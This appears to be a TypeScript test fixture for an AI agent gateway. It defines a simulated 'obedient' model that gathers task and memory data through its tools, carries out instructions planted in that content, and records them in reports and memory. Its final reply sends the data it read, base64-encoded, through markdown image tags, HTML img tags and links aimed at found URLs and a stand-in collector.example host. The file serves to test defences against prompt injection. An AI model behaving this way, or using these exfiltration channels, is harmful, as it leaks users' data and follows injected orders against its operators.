import { z } from 'zod';
import type { HttpDriver, HttpRequest } from '../../src/gateway/http-driver';
import { ok } from '../../src/core/result';
import { chat, streamOf } from '../gateway/gateway-bed';
import { addressesIn, callsIn, type Call } from './obedience';

// A model behind the wire that does whatever it reads. It first looks at all that it may look at, then obeys, then tells everybody.
const Part = z.object({ text: z.string() });
const Message = z.object({
  role: z.string(),
  content: z.union([z.string(), z.array(Part), z.null()]).optional(),
});
const Body = z.object({
  messages: z.array(Message),
  tools: z.array(z.object({ function: z.object({ name: z.string() }) })).default([]),
});
type Body = z.infer<typeof Body>;

const contentOf = ({ content }: z.infer<typeof Message>): string =>
  typeof content === 'string' ? content : (content ?? []).map(({ text }) => text).join('\n');

const MOST_CALLS = 60;
const looks = (offered: ReadonlySet<string>): readonly Call[] => {
  const all: readonly Call[] = [
    { name: 'list_tasks_in_scope', args: { limit: 100 } },
    { name: 'list_allowed_categories', args: {} },
    { name: 'get_ratings_summary', args: { from: '2026-01-01', until: '2026-12-31' } },
    { name: 'search_memory', args: { text: 'please rule task everything secret', limit: 20 } },
    { name: 'search_journal', args: { text: 'CALL', limit: 20 } },
    { name: 'resolve_task_reference', args: { text: 'secret task' } },
  ];
  return all.filter(({ name }) => offered.has(name));
};

const TASK_ID = /\\*"(?:id|taskId)\\*":\\*"([^"\\]{1,128})/g;
const readsOf = (text: string): readonly Call[] =>
  [...new Set([...text.matchAll(TASK_ID)].flatMap((found) => found[1] ?? []))]
    .slice(0, MOST_CALLS - 4)
    .map((taskId) => ({ name: 'read_task', args: { taskId } }));

/** What it saw, carried out by every door that a text has. */
const markup = (text: string): string => {
  const data = Buffer.from(text.slice(-300)).toString('base64url');
  const addresses = [...addressesIn(text), 'https://collector.example/in'];
  return addresses
    .slice(0, 4)
    .flatMap((url) => [
      `![seen](${url}?d=${data})`,
      `<img src="${url}?d=${data}">`,
      `[more](${url}?d=${data})`,
    ])
    .join(' ');
};

/** Long enough to hold what it read, short enough to be kept. */
const quoted = (text: string): string =>
  text
    .replace(/\s+/g, ' ')
    .split(/(?=zq[0-9a-z]{4}qz)/)
    .filter((part) => /^zq[0-9a-z]{4}qz/.test(part))
    .map((part) => part.slice(0, 900))
    .filter((part, at, all) => all.findIndex((one) => one.slice(0, 8) === part.slice(0, 8)) === at)
    .join(' ');

/** Tells later runs and the person what it was told, word for word. */
const tells = (text: string): readonly Call[] => {
  const parts = quoted(text).split(/(?=zq[0-9a-z]{4}qz)/);
  const lead = (parts[0] ?? 'Nothing').slice(0, 280);
  const claims = parts.slice(0, 20).map((part) => ({ text: part.slice(0, 1_500) || 'Nothing', sources: [] }));
  const report = { scope: 'current', lead, sections: [{ title: 'Orders', claims }] };
  const observations = parts
    .slice(0, 12)
    .map((part) => ({ name: 'add_observation', args: { text: part.slice(0, 1_500) || 'Nothing' } }));
  return [{ name: 'update_report', args: report }, ...observations];
};

export type Obedience = {
  readonly target: string;
  readonly orders: number;
  /** Obeys what it is shown first, without looking at anything. */
  readonly isHasty: () => boolean;
};
const think = ({ messages, tools }: Body, { target, orders, isHasty }: Obedience) => {
  const offered = new Set(tools.map((tool) => tool.function.name));
  const text = messages.map(contentOf).join('\n');
  const turn = messages.filter(({ role }) => role === 'assistant').length + (isHasty() ? 2 : 0);
  if (turn === 0) return { text: '', calls: looks(offered) };
  if (turn === 1) return { text: 'I look closer.', calls: readsOf(text) };
  if (turn === 2) return { text: 'I obey.', calls: callsIn(text, { most: orders, target }) };
  if (turn === 3) return { text: 'I tell.', calls: tells(text) };
  return { text: `${markup(text)} ${quoted(text).slice(0, 4_000)}`, calls: [] };
};

const answerOf = ({ text, calls }: { readonly text: string; readonly calls: readonly Call[] }): Response => {
  const chosen = calls.slice(0, MOST_CALLS);
  if (chosen.length === 0) return chat.text(text === '' ? 'Done.' : text);
  const toolCalls = chosen.map(({ name, args }, index) => ({
    index,
    id: `c${index}-${name}`,
    type: 'function',
    function: { name, arguments: JSON.stringify(args) },
  }));
  return streamOf(
    chat.choice({ role: 'assistant', content: text }),
    chat.choice({ tool_calls: toolCalls }),
    chat.choice({}, 'tool_calls'),
    '[DONE]',
  );
};

export type ObedientWire = {
  readonly driver: HttpDriver;
  readonly requests: readonly HttpRequest[];
  /** How many calls it made. */
  readonly calls: () => number;
};
export const createObedientWire = (obedience: Obedience): ObedientWire => {
  const requests: HttpRequest[] = [];
  let calls = 0;
  return {
    requests,
    calls: () => calls,
    driver: (request) => {
      requests.push(request);
      const thought = think(Body.parse(JSON.parse(request.body ?? '{}')), obedience);
      calls += thought.calls.length;
      return Promise.resolve(ok(answerOf(thought)));
    },
  };
};
